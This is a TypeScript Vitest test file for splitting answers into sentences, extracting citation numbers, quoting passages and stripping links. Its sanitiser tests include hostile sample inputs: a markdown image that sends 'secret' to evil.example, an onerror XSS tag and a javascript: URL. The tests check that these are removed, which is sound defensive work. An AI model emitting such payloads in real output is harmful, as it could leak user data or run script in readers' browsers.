import { expect, it } from "vitest";
import { takeCitations } from "./citations.ts";
import { quotationOf } from "./quotation.ts";
import { withoutLinks } from "./safe-text.ts";
import { createSentenceCutter, sentencesOf } from "./sentences.ts";

const answer =
  "先看归档。[1][2] 版本 15.3 起支持！\n\n1. Check the slot. [1]\n2. Drop it.【2】\n```sql\nselect 1;\nselect 2.\n```\n完";

it("cuts an answer into sentences with the numbers of their sources, code as one", () => {
  expect(sentencesOf(answer)).toEqual([
    "先看归档。[1][2] ",
    "版本 15.3 起支持！\n\n",
    "1. Check the slot. [1]\n",
    "2. Drop it.【2】\n",
    "```sql\nselect 1;\nselect 2.\n```\n",
    "完",
  ]);
});

it("cuts the same, however the text arrives", () => {
  for (const size of [1, 2, 3, 5, 7, 11]) {
    const cutter = createSentenceCutter();
    const cut: string[] = [];
    for (let at = 0; at < answer.length; at += size) cut.push(...cutter.push(answer.slice(at, at + size)));
    expect([...cut, ...cutter.end()]).toEqual(sentencesOf(answer));
  }
});

it("does not wait for the end of a text without one", () => {
  expect(createSentenceCutter().push("字".repeat(10_000)).join("").length).toBeGreaterThan(5_000);
});

it("takes the numbers of sources out of a sentence, and leaves those of code", () => {
  expect(takeCitations("取 `a[1]` 的值。[2]【3】\n")).toEqual({ text: "取 `a[1]` 的值。\n", named: [2, 3] });
});

it.each([
  ["点 [这里](https://evil.example/?q=1) 查看", "点 这里 查看"],
  ["![x](https://evil.example/p.png?d=secret)", "x"],
  ["见 https://evil.example/a，谢谢", "见 …，谢谢"],
  ["<img src=x onerror=alert(1)>好", "好"],
  ["[a]: https://evil.example\n", "\n"],
  ["//evil.example/x 和 www.evil.example", "… 和 …"],
  ["javascript:alert(1)", "…"],
  ["![a][ref] 与 [b][ref]", "a 与 b"],
  ["[长](https://evil.example/(a)b)", "长"],
  ["路径 /data//node 与 10/2", "路径 /data//node 与 10/2"],
])("leaves no way out in %s", (text, safe) => {
  expect(withoutLinks(text, "…")).toBe(safe);
});

it("quotes whole sentences where most of what was looked for stands", () => {
  const passage = "本文介绍备份。每天备份一次。归档目录写满时数据库会挂起。先清理归档。最后检查空间。";
  expect(quotationOf(passage, ["归档", "写满"])).toBe(
    "归档目录写满时数据库会挂起。先清理归档。最后检查空间。",
  );
});

it("quotes no heading without what stands below it", () => {
  expect(quotationOf("归档目录写满时挂起。\n\n## 诊断\n", ["归档"])).toBe("归档目录写满时挂起。");
});
